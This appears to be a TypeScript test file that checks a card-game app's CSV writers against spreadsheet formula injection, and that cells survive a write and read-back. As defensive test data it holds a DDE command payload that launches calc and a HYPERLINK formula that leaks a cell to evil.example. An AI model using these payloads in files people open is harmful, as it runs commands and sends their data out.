// Issue 35, item 8: a cell starting with '-' is a formula to a spreadsheet unless it is a plain number
// (`-1+cmd|' /C calc'!A0` runs a command), so only plain numbers go out raw; every writer reads back exactly.
import { describe, expect, it } from 'vitest'
import fc from 'fast-check'
import { neutraliseCell, restoreCell } from '../../../src/main/core/csv-cell'
import { readCardFile, writeCardsCsv } from '../../../src/main/cards/card-file'
import { readCollectionCsv, writeCollectionCsv } from '../../../src/main/collection/collection-csv'
import { readCharacterCsv, writeCharacterCsv } from '../../../src/main/games/cc/csv'
import { readTfCsv, writeTfCsv } from '../../../src/main/games/tf/csv'
import { readCsCsv, writeCsCsv } from '../../../src/main/games/cs/csv'
import { GAMBIT } from '../../../src/main/games/cc/examples'
import { KEN } from '../../../src/main/games/tf/examples'
import { ROOK } from '../../../src/main/games/cs/examples'
import type { Card } from '../../../src/shared/card'

const DDE = "-1+cmd|' /C calc'!A0"
const LINK = '-2+HYPERLINK("http://evil.example/?leak="&A1,"click")'
const ATTACKS = [DDE, LINK, '-1-1', '-1*2', '-1 ', '-5 damage', '-1e5', '-1.5.5', "'-1+cmd|' /C calc'!A0"]
const NUMBERS = ['-1', '-2', '-500', '-0.5', '-12.25', '1', '42']

/** What a spreadsheet would run: a leading = + @ tab or return, or a - that does not make the whole cell a plain number. */
const runs = (cell: string) => /^[=+@\t\r]/.test(cell) || (cell.startsWith('-') && !/^-\d+(\.\d+)?$/.test(cell))

/** Strings heavy in the characters that matter at the start of a cell. */
const cellText = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.array(fc.constantFrom("'", '-', '+', '=', '@', '\t', '1', '2', '.', 'e', ' ', 'x', '|', '!', '(', '"'), { maxLength: 12 }).map((p) => p.join('')),
  fc.constantFrom(...ATTACKS, ...NUMBERS),
)
/** What the readers keep: they trim every cell, as a spreadsheet does. */
const trimmedText = cellText.filter((s) => s === s.trim())

describe('csv cells starting with -', () => {
  it('neutralises a - formula and leaves only plain numbers as they are', () => {
    for (const cell of ATTACKS) {
      expect(neutraliseCell(cell), cell).toBe(`'${cell}`)
      expect(restoreCell(neutraliseCell(cell)), cell).toBe(cell)
    }
    for (const cell of NUMBERS) expect(neutraliseCell(cell), cell).toBe(cell)
  })

  it('no written cell runs, and reading gives back exactly what was written', () => {
    fc.assert(
      fc.property(cellText, (cell) => {
        const out = neutraliseCell(cell)
        expect(runs(out)).toBe(false)
        expect(restoreCell(out)).toBe(cell)
      }),
      { numRuns: 2000 },
    )
  })
})

const CARD: Card = {
  set: 'mine',
  number: 'A001',
  name: 'Ryu',
  kind: 'action',
  rarity: null,
  bp: null,
  sp: null,
  cost: 1,
  ability: null,
  text: 'x',
  backups: [],
  altNames: [],
  origin: null,
}

describe('every CSV writer neutralises a - formula and reads it back', () => {
  it('cards', () => {
    const csv = writeCardsCsv([{ ...CARD, name: DDE, text: LINK, origin: '-500' }])
    expect(csv.split('\n')[1]).toBe(`A001,'${DDE},action,,,,1,,,,"'${LINK.replace(/"/g, '""')}",,,,-500`)
    fc.assert(
      fc.property(
        trimmedText.filter((s) => s !== ''),
        trimmedText,
        (name, text) => {
          const read = readCardFile('mine.csv', writeCardsCsv([{ ...CARD, name, text: text || null }]), 'mine')
          expect(read.problems).toEqual([])
          expect(read.cards[0].card).toMatchObject({ name, text: text || null })
        },
      ),
      { numRuns: 300 },
    )
  })

  it('collection', () => {
    const csv = writeCollectionCsv([{ set: 'mine', number: DDE, owned: 2 }], () => LINK)
    expect(csv).toContain(`'${DDE}`)
    expect(csv).toContain(`'${LINK.replace(/"/g, '""')}`)
    fc.assert(
      fc.property(
        trimmedText.filter((s) => s !== ''),
        trimmedText.filter((s) => s !== ''),
        (set, number) => {
          const read = readCollectionCsv(
            writeCollectionCsv([{ set, number, owned: 3 }], () => number),
            (_, n) => n,
          )
          expect(read).toEqual({ ok: true, counts: [{ set, number, owned: 3 }] })
        },
      ),
      { numRuns: 300 },
    )
  })

  it('characters of every game', () => {
    const cc = { ...GAMBIT, example: false, name: DDE, specialAbility: LINK }
    const ccText = writeCharacterCsv([cc])
    expect(ccText).toContain(`'${DDE}`)
    expect(readCharacterCsv('x.csv', ccText)).toEqual({ sheets: [cc], problems: [] })

    const tf = { ...KEN, id: 'gouki', example: false, name: LINK }
    const tfText = writeTfCsv([tf])
    expect(tfText).toContain(`'${LINK.replace(/"/g, '""')}`)
    expect(readTfCsv('x.csv', tfText)).toEqual({ characters: [tf], problems: [] })

    const cs = { ...ROOK, id: 'bishop', example: false, name: DDE }
    const csText = writeCsCsv([cs])
    expect(csText).toContain(`'${DDE}`)
    expect(readCsCsv('x.csv', csText)).toEqual({ characters: [cs], problems: [] })
  })
})
